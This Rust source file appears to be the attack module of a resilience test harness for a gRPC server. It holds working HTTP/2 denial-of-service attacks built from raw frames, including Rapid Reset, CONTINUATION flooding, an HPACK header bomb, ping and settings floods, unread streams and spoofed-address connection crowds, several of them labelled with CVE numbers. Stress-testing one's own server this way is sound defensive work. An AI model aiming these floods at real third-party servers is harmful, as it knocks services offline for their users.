//! The attacks: each takes what it can, and returns the connections that it still holds.

use super::wire::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RawClient, SETTINGS, WINDOW_MAX,
    WINDOW_UPDATE, call, call_headers, frame, reset, stream,
};
use super::{Kind, Size};
use crate::hostile::random::Random;

const LIST: &str = "/mos.v1.FlowService/ListFlows";
const STATUS: &str = "/mos.v1.SystemService/GetStatus";
const INFO: &str = "/mos.v1.SystemService/GetServerInfo";
const WATCH: &str = "/mos.v1.EventService/WatchEvents";

/// Methods that random calls name: ours, others' and none.
const METHODS: [&str; 18] = [
    LIST,
    STATUS,
    WATCH,
    "/mos.v1.FlowService/GetFlow",
    "/mos.v1.FlowService/CountFlows",
    "/mos.v1.FlowService/RankFlows",
    "/mos.v1.FlowService/ExportFlows",
    "/mos.v1.FlowService/ApplySockOpt",
    "/mos.v1.FlowService/UndoSockOpt",
    "/mos.v1.FlowService/BatchSetSockOpt",
    "/mos.v1.FlowService/GetSockOpt",
    "/mos.v1.FlowService/SetSockOpt",
    "/mos.v1.FlowService/PeekFlow",
    "/mos.v1.FlowService/ReadFlow",
    INFO,
    "/grpc.health.v1.Health/Watch",
    "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
    "/mos.v1.FlowService/NoSuchMethod",
];

/// A page of 1,000 flows, as `ListFlows` is asked for it.
const LARGE_PAGE: [u8; 3] = [0x08, 0xe8, 0x07];

/// Streams that are opened before the first of them is cut.
const AT_ONCE: u32 = 16;

/// Carries out one attack.
pub(super) fn attack(kind: Kind, address: &str, size: &Size) -> Vec<RawClient> {
    match kind {
        Kind::Silence => silence(address, size),
        Kind::HalfRequests => half_requests(address, size),
        Kind::UnreadAnswers => unread_answers(address, size),
        Kind::UnreadStreams => unread_streams(address),
        Kind::RapidReset => rapid_reset(address, size),
        Kind::EndlessHeaders => endless_headers(address, size),
        Kind::HeaderBomb => header_bomb(address),
        Kind::Pings => flood(address, &frame(PING, 0, 0, &[7; 8]), size),
        Kind::Settings => flood(address, &frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 9]), size),
        Kind::WindowUpdates => flood(address, &frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]), size),
        Kind::EmptyFrames => empty_frames(address, size),
        Kind::Watches => watches(address, size),
        Kind::Calls => calls(address, size),
        Kind::Nonsense => nonsense(address),
    }
}

/// Connections that say nothing.
fn silence(address: &str, size: &Size) -> Vec<RawClient> {
    (0..size.connections).map(|_| RawClient::silent(address)).collect()
}

/// Requests that never end.
fn half_requests(address: &str, size: &Size) -> Vec<RawClient> {
    let half = |count| {
        let headers = frame(HEADERS, END_HEADERS, stream(count), &call_headers(STATUS));
        [headers, frame(DATA, 0, stream(count), &[0, 0, 0, 15, 255, 1])].concat()
    };
    on_each(address, size, WINDOW_MAX, |client| {
        client.send(&(0..100).flat_map(half).collect::<Vec<u8>>());
    })
}

/// Answers that nobody reads: the client grants none a byte.
fn unread_answers(address: &str, size: &Size) -> Vec<RawClient> {
    on_each(address, size, 0, |client| {
        for count in 0..100 {
            client.send(&call(stream(count), LIST, &LARGE_PAGE));
        }
    })
}

/// Streams of events that nobody reads.
fn unread_streams(address: &str) -> Vec<RawClient> {
    let size = Size { connections: 2, ..Size::default() };
    on_each(address, &size, 0, |client| {
        client
            .send(&(0..100).flat_map(|count| call(stream(count), WATCH, &[])).collect::<Vec<_>>());
    })
}

/// Streams that are opened and cut at once (CVE-2023-44487).
fn rapid_reset(address: &str, size: &Size) -> Vec<RawClient> {
    let mut client = RawClient::granting(address, WINDOW_MAX);
    for count in 0..size.frames {
        let pair = [call(stream(count), WATCH, &[]), reset(stream(count))].concat();
        if !client.send(&pair) {
            break;
        }
    }
    vec![client]
}

/// A header block that never ends (CVE-2024-27316).
fn endless_headers(address: &str, size: &Size) -> Vec<RawClient> {
    let mut client = RawClient::granting(address, WINDOW_MAX);
    client.send(&frame(HEADERS, 0, 1, &call_headers(STATUS)));
    let field = [&[0x00, 0x01, b'x', 0x7e][..], &[b'y'; 0x7e]].concat();
    let more = frame(CONTINUATION, 0, 1, &field.repeat(100));
    let _ended: bool = (0..size.frames).any(|_| !client.send(&more));
    vec![client]
}

/// Header blocks that are small on the wire and large when they are read (CVE-2016-6581): one
/// entry of the table, thousands of times.
fn header_bomb(address: &str) -> Vec<RawClient> {
    let mut client = RawClient::granting(address, WINDOW_MAX);
    let entry = [&[0x40, 0x01, b'x', 0x7f, 0xa1, 0x1e][..], &[b'y'; 4000]].concat();
    let block = [&entry[..], &[0xbe; 12_000]].concat();
    let bomb = |count| frame(HEADERS, END_HEADERS | END_STREAM, stream(count), &block);
    let _ended: bool = (0..100).any(|count| !client.send(&bomb(count)));
    vec![client]
}

/// Frames that want an answer, from a client that reads none (CVE-2019-9512, CVE-2019-9515), or
/// that want nothing.
fn flood(address: &str, piece: &[u8], size: &Size) -> Vec<RawClient> {
    let mut client = RawClient::granting(address, WINDOW_MAX);
    let many = piece.repeat(1000);
    let _ended: bool = (0..size.frames.div_ceil(100)).any(|_| !client.send(&many));
    vec![client]
}

/// Frames of data without data (CVE-2019-9518).
fn empty_frames(address: &str, size: &Size) -> Vec<RawClient> {
    let mut client = RawClient::granting(address, WINDOW_MAX);
    client.send(&frame(HEADERS, END_HEADERS, 1, &call_headers(STATUS)));
    let many = frame(DATA, 0, 1, &[]).repeat(1000);
    let _ended: bool = (0..size.frames.div_ceil(100)).any(|_| !client.send(&many));
    vec![client]
}

/// Streams of events that are opened, read a little, and cut: by a reset, or with their
/// connection.
fn watches(address: &str, size: &Size) -> Vec<RawClient> {
    let (mut opened, mut round) = (0, 0_u32);
    while opened < size.watches {
        let mut client = RawClient::granting(address, WINDOW_MAX);
        for batch in 0..8 {
            let streams = batch * AT_ONCE..(batch + 1) * AT_ONCE;
            let begun = streams.clone().flat_map(|count| call(stream(count), WATCH, &[]));
            opened += AT_ONCE;
            if !client.send(&begun.collect::<Vec<u8>>()) || client.drain() {
                break;
            }
            if round.is_multiple_of(2) {
                client.send(&streams.flat_map(|count| reset(stream(count))).collect::<Vec<u8>>());
            } else {
                break;
            }
        }
        round += 1;
    }
    Vec::new()
}

/// Calls of anything with anything, some of them cut.
fn calls(address: &str, size: &Size) -> Vec<RawClient> {
    let mut random = Random::new(size.seed);
    let mut clients: Vec<_> =
        (0..8).map(|_| (RawClient::granting(address, WINDOW_MAX), 0)).collect();
    for _ in 0..size.calls {
        let choice = usize::from(random.byte());
        let path = METHODS[choice % METHODS.len()];
        let length = usize::from(random.byte() % 32);
        let message: Vec<u8> = (0..length).map(|_| random.byte()).collect();
        let at = usize::from(random.byte()) % clients.len();
        let (client, count) = &mut clients[at];
        let mut bytes = call(stream(*count), path, &message);
        if random.byte().is_multiple_of(4) {
            bytes.extend(reset(stream(*count)));
        }
        *count += 1;
        let is_gone = !client.send(&bytes) || (count.is_multiple_of(16) && client.drain());
        // Streams that go on fill a connection: after a while there is another one.
        if is_gone || *count > 400 {
            clients[at] = (RawClient::granting(address, WINDOW_MAX), 0);
        }
    }
    clients.into_iter().map(|(client, _)| client).collect()
}

/// Connections from many addresses, each with two answers that nobody reads.
pub(super) fn crowd(address: &str) -> Vec<RawClient> {
    let mut clients = Vec::new();
    for host in 10..30 {
        for _ in 0..40 {
            let mut client = RawClient::silent_from(address, [127, 0, 0, host].into());
            client.grant(0);
            client.send(&[call(stream(0), INFO, &[]), call(stream(1), INFO, &[])].concat());
            clients.push(client);
        }
    }
    clients
}

/// What is not HTTP/2 at all.
fn nonsense(address: &str) -> Vec<RawClient> {
    let mut random = Random::new(7);
    let clients = (0..50).map(|number| {
        let mut client = match number % 2 {
            0 => RawClient::silent(address),
            _ => RawClient::granting(address, WINDOW_MAX),
        };
        client.send(&(0..2000).map(|_| random.byte()).collect::<Vec<u8>>());
        client
    });
    clients.collect()
}

/// The same on several connections.
fn on_each(
    address: &str,
    size: &Size,
    window: u32,
    mut attack: impl FnMut(&mut RawClient),
) -> Vec<RawClient> {
    let clients = (0..size.connections.min(20)).map(|_| {
        let mut client = RawClient::granting(address, window);
        attack(&mut client);
        client
    });
    clients.collect()
}
